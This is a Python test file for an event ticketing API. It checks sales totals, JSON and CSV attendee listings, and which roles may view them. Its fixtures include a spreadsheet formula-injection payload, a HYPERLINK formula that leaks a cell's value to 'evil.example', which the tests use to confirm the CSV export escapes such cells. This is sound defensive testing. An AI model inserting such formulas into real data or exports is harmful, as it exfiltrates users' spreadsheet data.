"""Organizer views: sales figures, the attendee list (JSON and CSV), and who may see them."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import Any

import httpx
import pytest

from tests.api.test_orders import buy, pay
from tests.api.test_tickets import walk
from tests.helpers import (
    API,
    Account,
    Tenant,
    add_ticket_type,
    assert_problem,
    create_event,
    publish,
    register,
    tenant,
)

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
AT_NAME = "@SUM(1+1)"
BALCONY = "+Balcony"


@dataclass
class Market:
    """One published event (capacity 12) with two ticket types and a mix of orders."""

    crew: Tenant
    event_id: str
    stalls: str  # ticket type A: 2500, 10 seats
    balcony: str  # ticket type B: 1000, 5 seats, named "+Balcony"
    ada: Account  # 2 stalls, paid, one of them checked in
    pending: Account  # 1 balcony, not paid
    cancelled: Account  # 1 stall, paid then cancelled
    promo: Account  # 1 stall + 2 balcony with 10 % off, paid
    orders: dict[str, dict[str, Any]]


async def _paid(client: httpx.AsyncClient, buyer: Account, response: httpx.Response) -> Any:
    assert response.status_code == 201, response.text
    paid = await pay(client, buyer, response.json()["id"])
    assert paid.status_code == 200, paid.text
    return paid.json()


@pytest.fixture(scope="module")
async def market(app: Any) -> Market:
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        crew = await tenant(client)
        event = await create_event(client, crew.org_id, crew.admin, capacity=12)
        stalls = (
            await add_ticket_type(client, event["id"], crew.admin, name="Stalls", quantity=10)
        )["id"]
        balcony = (
            await add_ticket_type(
                client, event["id"], crew.admin, name=BALCONY, price_amount=1000, quantity=5
            )
        )["id"]
        await publish(client, event["id"], crew.admin)
        promo = await client.post(
            f"{API}/events/{event['id']}/promo-codes",
            json={"code": "TENOFF", "percent_off": 10},
            headers=crew.admin.headers,
        )
        assert promo.status_code == 201, promo.text

        ada = await register(client, name="Ada Lovelace")
        waiting = await register(client, name="Pending Pete")
        quitter = await register(client, name=AT_NAME)
        saver = await register(client, name=EVIL_NAME)
        orders: dict[str, dict[str, Any]] = {}
        orders["ada"] = await _paid(client, ada, await buy(client, ada, event["id"], stalls, 2))
        held = await buy(client, waiting, event["id"], balcony, 1)
        assert held.status_code == 201, held.text
        orders["pending"] = held.json()
        orders["cancelled"] = await _paid(
            client, quitter, await buy(client, quitter, event["id"], stalls, 1)
        )
        response = await client.post(
            f"{API}/orders/{orders['cancelled']['id']}/cancel", headers=quitter.headers
        )
        assert response.status_code == 200, response.text
        mixed = await client.post(
            f"{API}/events/{event['id']}/orders",
            json={
                "items": [
                    {"ticket_type_id": stalls, "quantity": 1},
                    {"ticket_type_id": balcony, "quantity": 2},
                ],
                "promo_code": "tenoff",
            },
            headers=saver.headers,
        )
        orders["promo"] = await _paid(client, saver, mixed)
        assert orders["promo"]["discount_amount"] == 250 + 200
        checked = await client.post(
            f"{API}/events/{event['id']}/check-ins",
            json={"code": orders["ada"]["tickets"][0]["code"]},
            headers=crew.staff.headers,
        )
        assert checked.status_code == 201, checked.text
    return Market(crew, event["id"], stalls, balcony, ada, waiting, quitter, saver, orders)


class TestSales:
    async def test_numbers_per_ticket_type_and_totals(
        self, client: httpx.AsyncClient, market: Market
    ) -> None:
        response = await client.get(
            f"{API}/events/{market.event_id}/sales", headers=market.crew.admin.headers
        )
        assert response.status_code == 200, response.text
        report = response.json()
        assert report["event_id"] == market.event_id
        by_id = {row["ticket_type_id"]: row for row in report["ticket_types"]}
        assert by_id[market.stalls] == {
            "ticket_type_id": market.stalls,
            "name": "Stalls",
            "price_amount": 2500,
            "quantity": 10,
            "sold": 3,  # Ada's 2 + 1 of the promo order; the cancelled one came back
            "held": 0,
            "available": 6,  # 7 of its own, but the event has 12 - 5 sold - 1 held left
            "revenue_amount": 5000 + 2500 - 250,
            "currency": "EUR",
        }
        assert by_id[market.balcony] == {
            "ticket_type_id": market.balcony,
            "name": BALCONY,
            "price_amount": 1000,
            "quantity": 5,
            "sold": 2,
            "held": 1,
            "available": 2,
            "revenue_amount": 2000 - 200,  # the pending order's seat earns nothing yet
            "currency": "EUR",
        }
        totals = report["totals"]
        confirmed = [market.orders["ada"], market.orders["promo"]]
        assert totals["revenue_amount"] == sum(order["total_amount"] for order in confirmed)
        assert totals == {
            "capacity": 12,
            "quantity": 15,
            "sold": 5,
            "held": 1,
            "available": 6,
            "revenue_amount": 9050,
            "currency": "EUR",
            "tickets_valid": 5,
            "tickets_void": 1,
            "checked_in": 1,
            "orders": {"pending": 1, "confirmed": 2, "cancelled": 1, "expired": 0},
        }
        assert response.headers["cache-control"] == "private, no-cache"

    async def test_an_event_without_sales(self, client: httpx.AsyncClient) -> None:
        crew = await tenant(client)
        event = await create_event(client, crew.org_id, crew.admin)
        report = (
            await client.get(f"{API}/events/{event['id']}/sales", headers=crew.owner.headers)
        ).json()
        assert report["ticket_types"] == []
        assert report["totals"]["currency"] is None
        assert report["totals"]["capacity"] is None
        assert report["totals"]["revenue_amount"] == report["totals"]["available"] == 0


class TestAttendees:
    async def test_json_pages(self, client: httpx.AsyncClient, market: Market) -> None:
        url = f"{API}/events/{market.event_id}/attendees"
        headers = market.crew.admin.headers
        whole = await client.get(url, params={"limit": 100}, headers=headers)
        assert whole.status_code == 200, whole.text
        assert whole.headers["cache-control"] == "private, no-store"
        rows = whole.json()["data"]
        assert whole.json()["next_cursor"] is None
        assert len(rows) == 6  # 5 valid tickets and the cancelled order's void one
        assert [row["ticket_id"] for row in await walk(client, url, headers, limit=2)] == [
            row["ticket_id"] for row in rows
        ]

        ada_ticket = market.orders["ada"]["tickets"][0]
        row = next(r for r in rows if r["ticket_id"] == ada_ticket["id"])
        assert set(row) == {
            "ticket_id",
            "attendee_name",
            "buyer_email",
            "ticket_type_id",
            "ticket_type_name",
            "status",
            "checked_in_at",
            "order_id",
        }
        assert row["attendee_name"] == "Ada Lovelace"
        assert row["buyer_email"] == market.ada.email
        assert row["ticket_type_id"] == market.stalls and row["ticket_type_name"] == "Stalls"
        assert row["status"] == "valid" and row["checked_in_at"] is not None
        assert row["order_id"] == market.orders["ada"]["id"]
        assert sum(r["checked_in_at"] is not None for r in rows) == 1
        # Codes are for the holder and the door, not for the organizer's spreadsheet.
        assert all("code" not in r for r in rows)

        void = await client.get(url, params={"status": "void"}, headers=headers)
        assert [(r["attendee_name"], r["status"]) for r in void.json()["data"]] == [
            (AT_NAME, "void")
        ]
        assert_problem(await client.get(url, params={"cursor": "%%%"}, headers=headers), 422)
        assert_problem(await client.get(url, params={"limit": 101}, headers=headers), 422, "limit")

    async def test_csv_export_escapes_formulas(
        self, client: httpx.AsyncClient, market: Market
    ) -> None:
        response = await client.get(
            f"{API}/events/{market.event_id}/attendees.csv", headers=market.crew.owner.headers
        )
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == (
            f'attachment; filename="attendees-{market.event_id}.csv"'
        )
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
        header, rows = table[0], table[1:]
        assert header == [
            "ticket_id",
            "attendee_name",
            "buyer_email",
            "ticket_type_id",
            "ticket_type",
            "status",
            "checked_in_at",
            "order_id",
        ]
        assert len(rows) == 6
        records = [dict(zip(header, row, strict=True)) for row in rows]
        names = {record["attendee_name"] for record in records}
        assert names == {"Ada Lovelace", "'" + AT_NAME, "'" + EVIL_NAME}
        assert {record["ticket_type"] for record in records} == {"Stalls", "'" + BALCONY}
        # No cell of the export starts with a character a spreadsheet would evaluate.
        assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
        evil = [record for record in records if record["attendee_name"] == "'" + EVIL_NAME]
        assert {record["buyer_email"] for record in evil} == {market.promo.email}
        assert {record["status"] for record in records} == {"valid", "void"}
        assert sum(bool(record["checked_in_at"]) for record in records) == 1

        void = await client.get(
            f"{API}/events/{market.event_id}/attendees.csv",
            params={"status": "void"},
            headers=market.crew.owner.headers,
        )
        assert len(list(csv.reader(io.StringIO(void.text)))) == 2


ADMIN_ROUTES = ("/sales", "/attendees", "/attendees.csv")


class TestWhoMaySee:
    async def test_published_event(self, client: httpx.AsyncClient, market: Market) -> None:
        crew = market.crew
        for route in ADMIN_ROUTES:
            url = f"{API}/events/{market.event_id}{route}"
            for account in (crew.admin, crew.owner):
                assert (await client.get(url, headers=account.headers)).status_code == 200
            # Staff scan tickets but do not see buyers' e-mail addresses or revenue.
            assert_problem(await client.get(url, headers=crew.staff.headers), 403)
            # The event is public, so refusing a non-member is a 403 that reveals nothing new.
            for account in (crew.outsider, market.ada):
                problem = assert_problem(await client.get(url, headers=account.headers), 403)
                assert market.ada.email not in str(problem)
            assert_problem(await client.get(url), 401)

    async def test_draft_event_is_404_outside_the_organization(
        self, client: httpx.AsyncClient
    ) -> None:
        crew = await tenant(client)
        event = await create_event(client, crew.org_id, crew.admin)
        for route in ADMIN_ROUTES:
            url = f"{API}/events/{event['id']}{route}"
            assert (await client.get(url, headers=crew.admin.headers)).status_code == 200
            assert_problem(await client.get(url, headers=crew.staff.headers), 403)
            assert_problem(await client.get(url, headers=crew.outsider.headers), 404)
            for bad in ("not-an-id", "00000000-0000-4000-8000-000000000000"):
                assert_problem(
                    await client.get(f"{API}/events/{bad}{route}", headers=crew.admin.headers),
                    404,
                )
